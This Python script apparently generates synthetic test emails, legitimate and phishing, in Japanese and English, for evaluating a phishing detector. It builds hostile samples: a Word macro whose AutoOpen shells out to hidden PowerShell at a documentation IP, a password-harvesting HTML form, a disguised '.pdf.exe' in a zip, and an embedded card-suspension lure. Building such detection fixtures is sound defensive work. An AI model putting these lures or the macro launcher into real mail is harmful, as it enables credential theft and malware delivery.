"""Writes the example mails tests/detection/{ja,en}/{legit,phish}/*.eml from the tables beside this script.

usage: python tests/detection/make.py [FOLDER]

The same tables always give the same bytes. Every organization and person is invented. Every domain is reserved
(RFC 2606, RFC 6761), except a public body's unassigned name at lg.jp. Every IP address is one for documentation
(RFC 5737).

A row is (name, author, subject, text, options). In the text, `|` ends a line and `[words](address)` is a link.
Options, separated by `;`:
    html, alt, qp, 8bit, iso-2022-jp, shift_jis, euc-jp, gb18030   structure, transfer encoding, charset
    rp=ADDRESS, reply=ADDRESS, to=ADDRESS, lu, list=ID, answer, auto   other header fields
    auth=pass|fail|none      the authentication result that the receiving border states for the author domain
    picture=ADDRESS          the text is a picture that links to this address
    hidden=WORDS             a hidden block
    FILE=NAME                an attached file: pdf, sheet, macro, zip, lockedzip, exezip, iso, page, form, ics, eml, png
"""

import base64
import hashlib
import html
import importlib
import pathlib
import quopri
import re
import sys

HERE = pathlib.Path(__file__).parent
OWN = "hakusandai-hp.example"
_LINK = re.compile(r"\[([^\]]+)\]\(([^)]+)\)")
FOLDERS = (
    ("ja/legit", ("legit_ja", "business_legit_ja")),
    ("en/legit", ("legit_en", "business_legit_en")),
    ("ja/phish", ("phish_ja", "business_phish_ja")),
    ("en/phish", ("phish_en",)),
)
CHARSETS = ("iso-2022-jp", "shift_jis", "euc-jp", "gb18030")


def attachment(kind, name, build, text):
    """Return the media type and the bytes of an attached file."""
    page = "<html><body><p>%s</p></body></html>"
    form = (
        '<form action="https://collect.tanin-site.example/p" method="post"><input type="email" name="user">'
        '<input type="password" name="pass"><input type="submit" value="OK"></form>'
    )
    plain_pdf = build.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    macro = 'Sub AutoOpen()\r\nShell "cmd /c powershell -w hidden http://192.0.2.66/a"\r\nEnd Sub\r\n'
    event = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//example//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@kaigi.example\r\n"
        f"DTSTART:20261120T010000Z\r\nDTEND:20261120T020000Z\r\nSUMMARY:{name}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    made = {
        "pdf": ("application/pdf", lambda: plain_pdf),
        "sheet": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", build.word),
        "macro": (
            "application/vnd.ms-word.document.macroEnabled.12",
            lambda: build.word(word__vbaProject_bin=build.vba_project(macro)),
        ),
        "zip": ("application/zip", lambda: build.zipped({"a.pdf": plain_pdf})),
        "lockedzip": ("application/zip", lambda: build.zipped({"a.pdf": plain_pdf}, encrypted=True)),
        "exezip": ("application/zip", lambda: build.zipped({name[:-4] + ".pdf.exe": b"MZ" + bytes(200)})),
        "iso": ("application/octet-stream", lambda: bytes(32769) + b"CD001\x01" + bytes(4000)),
        "page": ("text/html", (page % text).encode),
        "form": ("text/html", (page % form).encode),
        "ics": ("text/calendar", event.encode),
        "eml": ("message/rfc822", None),
        "png": ("image/png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(40)),
    }
    content_type, content = made[kind]
    return content_type, content


def word(text):
    return text if text.isascii() else "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def encoded(text, charset, transfer):
    """Return the transfer encoding's name and the encoded text."""
    raw = text.encode(charset, "replace")
    if transfer == "qp":
        return "quoted-printable", quopri.encodestring(raw).decode("ascii").replace("\r", "").encode()
    if transfer == "8bit" or charset == "iso-2022-jp":
        return "7bit" if charset == "iso-2022-jp" else "8bit", raw
    return "base64", base64.encodebytes(raw)


def leaf(kind, text, charset, transfer):
    name, body = encoded(text, charset, transfer)
    return f"Content-Type: text/{kind}; charset={charset}\nContent-Transfer-Encoding: {name}\n\n".encode() + body


def multipart(kind, parts, mark):
    head = f'Content-Type: multipart/{kind}; boundary="{mark}"\n\n'.encode()
    return head + b"".join(b"--" + mark.encode() + b"\n" + p + b"\n" for p in parts) + f"--{mark}--\n".encode()


def marked_up(text, options):
    """Return the text as HTML."""
    blocks = []
    for line in text.split("\n"):
        pieces = _LINK.split(line)
        shown = [html.escape(piece) for piece in pieces]
        for at in range(1, len(pieces), 3):
            shown[at : at + 2] = [f'<a href="{html.escape(pieces[at + 1])}">{shown[at]}</a>', ""]
        blocks.append(f"<p>{''.join(shown)}</p>")
    if "picture" in options:
        target = options["picture"]
        blocks.insert(
            0, f'<a href="{target}"><img src="https://img.tanin-site.example/1.png" width="600" height="800"></a>'
        )
    if "hidden" in options:
        blocks.append(f'<div style="display:none">{html.escape(options["hidden"])}</div>')
    return "<html><body>\n" + "\n".join(blocks) + "\n</body></html>\n"


def options_of(text):
    pairs = (piece.strip().partition("=") for piece in text.split(";") if piece.strip())
    return {key: value for key, _, value in pairs}


def header(row, options, number):
    name, author, subject, _, _ = row
    shown, _, address = author.rpartition(" <")
    address = address.rstrip(">")
    domain = address.rpartition("@")[2]
    path = options.get("rp", address)
    sending = path.rpartition("@")[2]
    day, minute = number % 28 + 1, number * 7 % 60
    stamp = f"{day} Nov 2026 {8 + number % 10:02}:{minute:02}:00 +0900"
    lines = [f"Return-Path: <{path}>"]
    if options.get("auth"):
        result = {"pass": "pass", "fail": "fail", "none": "none"}[options["auth"]]
        lines.append(f"Authentication-Results: mx.{OWN}; dmarc={result} header.from={domain}")
    lines += [
        f"Received: from out.{sending} (out.{sending} [192.0.2.{number % 200 + 20}])",
        f"\tby mx.{OWN} with ESMTPS id {number:06X};",
        f"\t{stamp}",
        f"Date: {stamp}",
        f"From: {word(shown)} <{address}>" if shown else f"From: {address}",
        f"To: {options.get('to', 'uketsuke@' + OWN)}",
        f"Subject: {word(subject)}",
        f"Message-ID: <{hashlib.sha256(name.encode()).hexdigest()[:16]}@{sending}>",
    ]
    if "reply" in options:
        lines.append(f"Reply-To: {options['reply']}")
    if "lu" in options:
        lines.append(f"List-Unsubscribe: <https://haishin.{domain}/stop?id={number}>")
    if "list" in options:
        lines += [f"List-Id: <{options['list']}>", f"List-Post: <mailto:{options['list'].replace('.', '@', 1)}>"]
    if "answer" in options:
        lines.append(f"In-Reply-To: <q{number}@{OWN}>")
    if "auto" in options:
        lines.append("Auto-Submitted: auto-generated")
    return "\n".join([*lines, "MIME-Version: 1.0", ""]).encode()


def build_mail(row, number, build):
    """Return the bytes of one row's mail."""
    _, _, _, text, option_text = row
    options = options_of(option_text)
    charset = next((c for c in CHARSETS if c in options), "utf-8")
    transfer = "qp" if "qp" in options else "8bit" if "8bit" in options else "base64"
    text = text.replace("|", "\n")
    plain = leaf("plain", _LINK.sub(r"\1 \2", text) + "\n", charset, transfer)
    rich = leaf("html", marked_up(text, options), charset, transfer)
    content = (
        multipart("alternative", [plain, rich], f"=_a{number}")
        if "alt" in options
        else rich
        if "html" in options
        else plain
    )
    parts = []
    for key, value in options.items():
        if key in _KINDS:
            parts.append(_file_part(key, value, build, text))
    if parts:
        content = multipart("mixed", [content, *parts], f"=_m{number}")
    return header(row, options, number) + content


_KINDS = ("pdf", "sheet", "macro", "zip", "lockedzip", "exezip", "iso", "page", "form", "ics", "eml", "png")


def _file_part(kind, name, build, text):
    content_type, content = attachment(kind, name, build, text)
    if kind == "eml":
        inner = (
            "From: =?utf-8?b?5p625qe544Kr44O844OJ?= <info@kakuu-card-alert.example>\nTo: a@hakusandai-hp.example\n"
            f"Subject: {word('【重要】カード停止のお知らせ')}\nMIME-Version: 1.0\n"
        ).encode() + leaf(
            "plain", "24時間以内に確認されない場合、カードを停止します。\nhttp://192.0.2.99/card\n", "utf-8", "base64"
        )
        return (
            f'Content-Type: message/rfc822; name="{word(name)}"\nContent-Disposition: attachment\n\n'.encode() + inner
        )
    shown = "".join(f"%{byte:02X}" for byte in name.encode())
    head = f"Content-Type: {content_type}\nContent-Disposition: attachment; filename*=UTF-8''{shown}\n"
    return (head + "Content-Transfer-Encoding: base64\n\n").encode() + base64.encodebytes(content())


def main(target):
    sys.path[:0] = [str(HERE), str(HERE.parents[1] / "examples" / "checks")]  # for the tables and the file builders
    build = importlib.import_module("make_attachments")
    number = 0
    for folder, tables in FOLDERS:
        rows = [importlib.import_module(table).ROWS for table in tables]
        (target / folder).mkdir(parents=True, exist_ok=True)
        wanted = {f"{row[0]}.eml" for table in rows for row in table}
        for stale in (target / folder).glob("*.eml"):
            if stale.name not in wanted:
                stale.unlink()
    for step in range(2):  # the later tables come last, so that the mails of the earlier ones stay as they are
        for folder, tables in FOLDERS:
            for table in tables[step : step + 1]:
                for row in importlib.import_module(table).ROWS:
                    number += 1
                    raw = build_mail(row, number, build).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
                    (target / folder / f"{row[0]}.eml").write_bytes(raw)


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
